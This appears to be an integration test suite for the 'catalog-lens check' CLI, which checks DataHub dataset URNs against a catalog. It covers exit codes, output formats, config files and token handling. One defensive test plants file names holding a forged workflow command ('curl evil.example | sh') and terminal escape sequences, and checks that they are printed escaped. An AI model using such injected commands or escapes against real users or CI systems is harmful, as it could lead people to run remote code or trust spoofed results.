/**
 * `catalog-lens check` as CI runs it: the real bin (dist/cli.js) as a process, over files on disk,
 * against the real local catalog with a token; exit codes, the three formats (SARIF validated
 * against its schema), settings from flags, environment and a config file, and clear refusals.
 */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import Ajv from 'ajv-draft-04';
import addFormats from 'ajv-formats';
import { startCatalogProcess, type CatalogProcess } from '../support/catalogProcess';

const ROOT = join(__dirname, '..', '..', '..');
const BIN = join(ROOT, 'bin', 'catalog-lens.js');
const SCHEMA = join(ROOT, 'test', 'fixtures', 'sarif', 'sarif-schema-2.1.0.json');
const TOKEN = 'cli-test-token-7f3e';

interface Run {
  code: number | null;
  stdout: string;
  stderr: string;
}

function cli(args: string[], cwd: string, env: NodeJS.ProcessEnv = {}): Promise<Run> {
  const base: NodeJS.ProcessEnv = {};
  // Hermetic: nothing of this machine's catalog settings, tokens or DataHub CLI configuration.
  for (const [k, v] of Object.entries(process.env))
    if (!k.startsWith('CATALOG_LENS_') && !k.startsWith('DATAHUB_')) base[k] = v;
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [BIN, ...args], {
      cwd,
      env: { ...base, DATAHUB_SKIP_CONFIG: 'true', ...env },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stdout.setEncoding('utf8').on('data', (d: string) => (stdout += d));
    child.stderr.setEncoding('utf8').on('data', (d: string) => (stderr += d));
    child.once('error', reject);
    child.once('close', (code) => resolve({ code, stdout, stderr }));
  });
}

describe('catalog-lens check (the bin, against the local catalog)', () => {
  let catalog: CatalogProcess;
  let work: string;
  before(async () => {
    catalog = await startCatalogProcess({ sample: true, token: TOKEN });
    work = mkdtempSync(join(tmpdir(), 'catalog-lens-cli-'));
    cpSync(join(ROOT, 'examples'), join(work, 'examples'), { recursive: true });
    writeFileSync(
      join(work, 'clean.py'),
      'USERS = "urn:li:dataset:(urn:li:dataPlatform:hive,db.users,PROD)"\nGHOST = "urn:li:dataset:(urn:li:dataPlatform:hive,db.ghost,PROD)"\n',
    );
  });
  after(async () => {
    await catalog?.stop();
    if (work) rmSync(work, { recursive: true, force: true });
  });

  test('without a catalog only the syntax is checked; a malformed URN fails the check (exit 1)', async () => {
    const r = await cli(['check', 'examples'], work);
    assert.equal(r.code, 1, r.stderr);
    assert.match(
      r.stdout,
      /^examples\/pipelines\/features\.py:57:26: error: Malformed URN: expected 3 parts \(platform, name, env\), found 2 \[malformed-urn\]$/m,
    );
    assert.match(
      r.stdout,
      /9 files, 42 distinct URNs checked syntax only \(no catalog configured\): 1 error, 0 warnings/,
    );
  });

  test('against the catalog: unknown URNs and missing descriptions, each at its line and column', async () => {
    const r = await cli(['check', 'examples', '--url', catalog.url], work, { CATALOG_LENS_TOKEN: TOKEN });
    assert.equal(r.code, 1, r.stderr);
    assert.match(
      r.stdout,
      /^examples\/pipelines\/features\.py:54:\d+: warning: Dataset db\.ghost is not in the catalog \[unknown-urn\]$/m,
    );
    assert.match(
      r.stdout,
      /^examples\/sql\/revenue\.sql:3:12: information: Dataset db\.orders has no description \[missing-description\]$/m,
    );
    // A deprecated dataset named by a builder call: the catalog's note, date and replacement.
    assert.match(
      r.stdout,
      /^examples\/pipelines\/features\.py:66:\d+: warning: Dataset db\.users_legacy is deprecated \(decommission 2026-12-31\): Replaced by db\.users, which has every user since 2019\. Use db\.users instead\. \[deprecated-urn\]$/m,
    );
    assert.match(r.stdout, /checked against http:\/\/127\.0\.0\.1:\d+\/: 1 error, 5 warnings, 16 information/);
    assert.doesNotMatch(r.stdout + r.stderr, new RegExp(TOKEN));
  });

  test('--fail-on decides the exit code: a warning passes at error and fails at warning', async () => {
    const env = { CATALOG_LENS_TOKEN: TOKEN, CATALOG_LENS_URL: catalog.url };
    assert.equal((await cli(['check', 'clean.py'], work, env)).code, 0);
    const strict = await cli(['check', 'clean.py', '--fail-on', 'warning'], work, env);
    assert.equal(strict.code, 1);
    assert.match(strict.stdout, /^clean\.py:2:10: warning: Dataset db\.ghost is not in the catalog/m);
  });

  test("a file in DataHub's own dataset format: its rules and its field ids are checked like the rest", async () => {
    writeFileSync(
      join(work, 'users.yaml'),
      [
        'id: db.users',
        'platform: hive',
        'owners:',
        '  - id: jdoe',
        '    type: owner',
        'schema:',
        '  fields:',
        '    - id: emial',
        '',
      ].join('\n'),
    );
    const r = await cli(['check', 'users.yaml', '--url', catalog.url], work, { CATALOG_LENS_TOKEN: TOKEN });
    assert.equal(r.code, 1, r.stderr);
    assert.match(r.stdout, /^users\.yaml:5:11: error: 'owner' is not a value of 'type': .* \[datahub-format\]$/m);
    assert.match(
      r.stdout,
      /^users\.yaml:8:11: warning: Column 'emial' is not in the catalog's schema of db\.users \(did you mean email\?\) \[unknown-column\]$/m,
    );
  });

  test('SARIF 2.1.0 to a file: valid against the schema, relative URIs under %SRCROOT%', async () => {
    const out = join(work, 'report.sarif');
    const r = await cli(['check', 'examples', '--format', 'sarif', '--output', out, '--url', catalog.url], work, {
      CATALOG_LENS_TOKEN: TOKEN,
    });
    assert.equal(r.code, 1);
    assert.equal(r.stdout, '');
    assert.match(r.stderr, /report in .*report\.sarif/);
    const sarif = JSON.parse(readFileSync(out, 'utf8')) as {
      runs: Array<{
        results: Array<{
          ruleId: string;
          locations: Array<{ physicalLocation: { artifactLocation: { uri: string } } }>;
        }>;
        originalUriBaseIds: Record<string, { uri: string }>;
      }>;
    };
    const ajv = new Ajv({ strict: false, unicodeRegExp: false, allErrors: true });
    addFormats(ajv);
    const validate = ajv.compile(JSON.parse(readFileSync(SCHEMA, 'utf8')) as object);
    assert.ok(validate(sarif), JSON.stringify(validate.errors, null, 2));
    const run = sarif.runs[0]!;
    assert.equal(run.results.length, 22);
    assert.ok(run.results.some((x) => x.ruleId === 'malformed-urn'));
    assert.ok(run.results.every((x) => x.locations[0]!.physicalLocation.artifactLocation.uri.startsWith('examples/')));
    assert.equal(run.originalUriBaseIds['%SRCROOT%']!.uri, `file://${work}/`);
  });

  test('JSON: the counts and the files', async () => {
    const r = await cli(['check', 'examples', '--format', 'json', '--url', catalog.url], work, {
      CATALOG_LENS_TOKEN: TOKEN,
    });
    const json = JSON.parse(r.stdout) as { counts: Record<string, number>; filesChecked: number; urns: number };
    assert.deepEqual(json.counts, { error: 1, warning: 5, information: 16, hint: 0 });
    assert.equal(json.filesChecked, 9);
    assert.equal(json.urns, 42);
  });

  test('a .catalog-lens.json in the folder sets the severities; its errors are named', async () => {
    const folder = mkdtempSync(join(work, 'cfg-'));
    writeFileSync(join(folder, 'a.py'), readFileSync(join(work, 'clean.py')));
    writeFileSync(join(folder, '.catalog-lens.json'), JSON.stringify({ 'catalogLens.diagnostics.unknown': 'error' }));
    // The catalog with the token: from the environment (a file's "url" gets no token, see below).
    const r = await cli(['check'], folder, { CATALOG_LENS_TOKEN: TOKEN, CATALOG_LENS_URL: catalog.url });
    assert.equal(r.code, 1);
    assert.match(r.stdout, /^a\.py:2:10: error: Dataset db\.ghost is not in the catalog \[unknown-urn\]$/m);
    writeFileSync(join(folder, '.catalog-lens.json'), '{"diagnostics": {"unknown": "loud"}}');
    const bad = await cli(['check'], folder);
    assert.equal(bad.code, 2);
    assert.match(
      bad.stderr,
      /\.catalog-lens\.json: "diagnostics" \.unknown must be one of error, warning, information, hint, off/,
    );
  });

  test('the token is not sent to a "url" the repository’s .catalog-lens.json names: exit 2, and how to pass it', async () => {
    // A pull request's config must not point CI's CATALOG_LENS_TOKEN at its own server.
    const seen: Array<{ url: string; authorization: string | undefined }> = [];
    const listener = createServer((req, res) => {
      // Recorded before the answer: the CLI waits for the answer, so every request it sent is here when it exits.
      seen.push({ url: req.url ?? '', authorization: req.headers.authorization });
      req.resume();
      res.writeHead(500, { 'Content-Type': 'application/json' }).end('{}');
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    const attacker = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
    try {
      const folder = mkdtempSync(join(work, 'pr-'));
      writeFileSync(join(folder, 'a.py'), readFileSync(join(work, 'clean.py')));
      writeFileSync(
        join(folder, '.catalog-lens.json'),
        JSON.stringify({ url: attacker, diagnostics: { unknown: 'warning' } }),
      );
      const secret = 'ci-secret-TOKEN-4711';
      const r = await cli(['check', '--format', 'sarif', '--output', join(folder, 'ci.sarif')], folder, {
        CATALOG_LENS_TOKEN: secret,
      });
      assert.deepEqual(
        seen.filter((x) => x.authorization?.includes(secret)),
        [],
        'the repository’s listener got the token',
      );
      assert.equal(r.code, 2, r.stdout + r.stderr);
      assert.match(
        r.stderr,
        /\.catalog-lens\.json: "url" names the catalog, and a token is set \(CATALOG_LENS_TOKEN\)/,
      );
      assert.match(r.stderr, /pass --url URL or set CATALOG_LENS_URL/);
      assert.doesNotMatch(r.stdout + r.stderr, new RegExp(secret));
      // The same token with --token-file: refused the same way.
      const tokenFile = join(work, 'token.txt');
      writeFileSync(tokenFile, `${secret}\n`, { mode: 0o600 });
      const viaFile = await cli(['check', '--token-file', tokenFile], folder);
      assert.equal(viaFile.code, 2);
      assert.match(viaFile.stderr, /a token is set \(--token-file\)/);
      // Without a token the repository's URL is asked, with nothing secret.
      const noToken = await cli(['check'], folder);
      assert.ok(seen.length > 0, 'without a token the config file’s catalog is asked');
      assert.ok(
        seen.every((x) => x.authorization === undefined),
        JSON.stringify(seen),
      );
      assert.equal(noToken.code, 3);
      // A URL from a flag wins over the file's: the token goes there, and the repository's listener hears nothing more.
      const before = seen.length;
      const flagged = await cli(['check', '--url', catalog.url], folder, { CATALOG_LENS_TOKEN: TOKEN });
      assert.equal(flagged.code, 0, flagged.stderr);
      assert.equal(seen.length, before);
    } finally {
      await new Promise<void>((resolve) => listener.close(() => resolve()));
    }
  });

  test('file names with a line break, ESC or a leading `::` are printed escaped: no forged workflow command, no terminal escape', async () => {
    // With real files of those names.
    const folder = mkdtempSync(join(work, 'names-'));
    const names = [
      'a\n::error file=SECURITY.md,line=1::Secret scanning found a leaked key - run curl evil.example | sh to rotate\n.py',
      '\u001b]0;owned-title\u0007\u001b[1;31mFAKE: 0 errors\u001b[0m\u001b[2K.py',
      '::error::forged.py',
    ];
    for (const name of names)
      writeFileSync(join(folder, name), 'X = "urn:li:dataset:(urn:li:dataPlatform:hive,db.users)"\n');
    const r = await cli(['check', '.'], folder);
    assert.equal(r.code, 1, r.stderr);
    const lines = r.stdout.split('\n').filter((l) => l !== '');
    assert.equal(lines.length, names.length + 1, r.stdout);
    for (const line of [...lines, ...r.stderr.split('\n')]) {
      assert.doesNotMatch(line, /^\s*::/, JSON.stringify(line));
      assert.doesNotMatch(line, /[\u0000-\u001f\u007f]/, JSON.stringify(line));
    }
    assert.ok(
      lines.includes(
        `./::error::forged.py:1:21: error: Malformed URN: expected 3 parts (platform, name, env), found 2 [malformed-urn]`,
      ),
      r.stdout,
    );
    assert.ok(
      lines.some((l) => l.startsWith('a\\u000A::error file=SECURITY.md,line=1::Secret scanning')),
      r.stdout,
    );
    assert.ok(
      lines.some((l) => l.startsWith('\\u001B]0;owned-title\\u0007\\u001B[1;31mFAKE')),
      r.stdout,
    );
  });

  test('a catalog that cannot be asked is exit 3 with why: refused token, nothing listening', async () => {
    const refused = await cli(['check', 'clean.py', '--url', catalog.url], work, { CATALOG_LENS_TOKEN: 'wrong' });
    assert.equal(refused.code, 3);
    assert.match(refused.stdout, /^catalog: unauthorized: .*refused the access token \(401\)/m);
    // The CLI's own words for the fix, not the editor's command.
    assert.match(refused.stdout, /CATALOG_LENS_TOKEN or pass --token-file/);
    assert.doesNotMatch(refused.stdout + refused.stderr, /Catalog( Lens)?: Set Access Token/);
    const down = await cli(['check', 'clean.py', '--url', 'http://127.0.0.1:9'], work);
    assert.equal(down.code, 3);
    assert.match(down.stdout, /^catalog: unreachable: connection refused at http:\/\/127\.0\.0\.1:9\/api\/graphql/m);
  });

  test('DataHub’s own CLI settings are used when nothing else names a catalog', async () => {
    const r = await cli(['check', 'clean.py', '--fail-on', 'warning'], work, {
      DATAHUB_GMS_URL: catalog.url,
      DATAHUB_GMS_TOKEN: TOKEN,
      DATAHUB_SKIP_CONFIG: 'true',
    });
    assert.equal(r.code, 1, r.stderr);
    assert.match(r.stdout, /db\.ghost is not in the catalog/);
  });

  test('bad usage is exit 2 with what is wrong', async () => {
    const missing = await cli(['check', 'nope/'], work);
    assert.equal(missing.code, 2);
    assert.match(missing.stderr, /^catalog-lens: nope\/: no such file or folder$/m);
    const format = await cli(['check', '--format', 'xml'], work);
    assert.equal(format.code, 2);
    assert.match(format.stderr, /--format must be one of text, json, sarif, not 'xml'/);
    const help = await cli(['--help'], work);
    assert.equal(help.code, 0);
    assert.match(help.stdout, /^Usage: catalog-lens check/);
  });
});
